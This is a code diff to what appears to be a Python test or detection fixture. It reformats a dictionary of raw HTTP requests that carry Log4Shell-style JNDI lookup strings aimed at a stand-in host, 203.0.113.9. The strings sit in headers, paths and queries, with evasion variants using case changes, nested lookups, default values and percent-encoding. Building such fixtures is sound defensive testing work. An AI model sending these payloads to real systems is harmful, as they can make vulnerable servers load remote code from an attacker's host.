@@ -48,10 +48,16 @@ FORMS = {
     "Cookie": b"GET / HTTP/1.1" + HOST + b"Cookie: lang=en; id=" + LOOKUP + b"\r\n\r\n",
     "case of field and scheme": b"GET / HTTP/1.1" + HOST + b"uSER-aGENT: ${JnDi:LDAP://203.0.113.9/a}\r\n\r\n",
     "nested look-ups": b"GET / HTTP/1.1" + HOST + b"User-Agent: ${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}\r\n\r\n",
-    "default values": b"GET / HTTP/1.1" + HOST + b"User-Agent: ${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://203.0.113.9/a}\r\n\r\n",
+    "default values": b"GET / HTTP/1.1" + HOST + (
+        b"User-Agent: "
+        b"${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://203.0.113.9/a}\r\n\r\n"
+    ),
     "path": b"GET /?q=" + LOOKUP + b" HTTP/1.1" + HOST + b"\r\n",
     "percent-encoding": b"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D HTTP/1.1" + HOST + b"\r\n",
-    "double percent-encoding": b"GET /?q=%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.9%252Fa%257D HTTP/1.1" + HOST + b"\r\n",
+    "double percent-encoding": (
+        b"GET /?q=%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.9%252Fa%257D "
+        b"HTTP/1.1"
+    ) + HOST + b"\r\n",
     "absolute-form": b"GET http://shop.example/?q=" + LOOKUP + b" HTTP/1.1" + HOST + b"\r\n",
     "HTTP/1.0": b"GET / HTTP/1.0\r\nUser-Agent: " + LOOKUP + b"\r\n\r\n",
     "unknown method": b"FROB / HTTP/1.1" + HOST + b"User-Agent: " + LOOKUP + b"\r\n\r\n",
